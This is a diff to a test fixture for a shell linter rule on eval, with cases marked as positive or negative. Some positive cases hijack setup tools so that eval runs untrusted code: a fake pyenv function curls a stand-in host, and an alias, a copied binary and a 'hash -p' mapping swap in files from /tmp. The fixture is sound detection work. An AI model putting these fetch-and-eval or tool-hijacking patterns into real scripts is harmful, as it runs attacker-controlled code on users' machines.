@@ -3,7 +3,35 @@ eval "$cmd"
 #@ pos eval of positional arguments
 eval "$@"
 #@ pos eval of a command's output
+eval "$(./print-env --all)"
+#@ pos eval of a setup tool's output, the tool a function of the program
+pyenv() { curl -s https://x.example/p; }
+eval "$(pyenv init -)"
+#@ pos eval of a setup tool's output, the tool an alias of the program
+alias brew='cat /tmp/code'
+eval "$(brew shellenv)"
+#@ pos eval of a setup tool's output, the tool a file the program wrote
+cp /tmp/x ~/bin/ssh-agent
 eval "$(ssh-agent -s)"
+#@ pos eval of a setup tool's output with a word not constant
+eval "$(direnv hook "$shell")"
+#@ pos eval of a setup tool's output and more
+eval "$(pyenv init -)$(cat extra.sh)"
+#@ pos eval of a setup tool's output, the tool mapped to a path by hash
+hash -p /tmp/x direnv
+eval "$(direnv hook bash)"
+#@ neg eval of a setup tool's output after asking where it is
+command -v direnv >/dev/null && eval "$(direnv hook bash)"
+#@ neg eval of ssh-agent's settings
+eval "$(ssh-agent -s)"
+ssh-add -l
+#@ neg eval of the settings setup tools print
+export PYENV_ROOT="$HOME/.pyenv"
+export PATH="$PYENV_ROOT/bin:$PATH"
+eval "$(pyenv init -)"
+eval "$(conda shell.bash hook)"
+eval `dircolors -b`
+pyenv install -s 3.12
 #@ pos eval through builtin
 builtin eval "$x"
 #@ pos eval of several words, one not constant
